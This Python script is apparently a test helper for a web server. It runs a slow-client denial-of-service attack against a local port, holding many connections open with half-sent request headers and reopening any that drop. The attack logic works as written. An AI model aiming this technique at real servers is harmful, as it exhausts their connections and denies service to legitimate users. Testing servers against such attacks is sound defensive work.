"""A slow-client attack: keeps connections open that have sent half a request header."""

import resource
import socket
import sys
import time
from contextlib import suppress

_HALF = b"POST /telegram HTTP/1.1\r\nHost: example.org\r\nX-Half: "


def _connect(port: int) -> socket.socket | None:
    with suppress(OSError):
        connection = socket.create_connection(("127.0.0.1", port), timeout=1)
        connection.sendall(_HALF)
        connection.settimeout(0)
        return connection
    return None


def _is_open(connection: socket.socket) -> bool:
    try:
        return bool(connection.recv(1))
    except BlockingIOError:
        return True
    except OSError:
        return False


def _keep_open(port: int, count: int) -> None:
    connections: list[socket.socket] = []
    while True:
        for connection in [each for each in connections if not _is_open(each)]:
            connection.close()
            connections.remove(connection)
        connections += [each for _ in range(count - len(connections)) if (each := _connect(port))]
        print("all opened", flush=True)  # noqa: T201  (the test waits for it)
        time.sleep(0.1)


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    _keep_open(int(sys.argv[1]), int(sys.argv[2]))
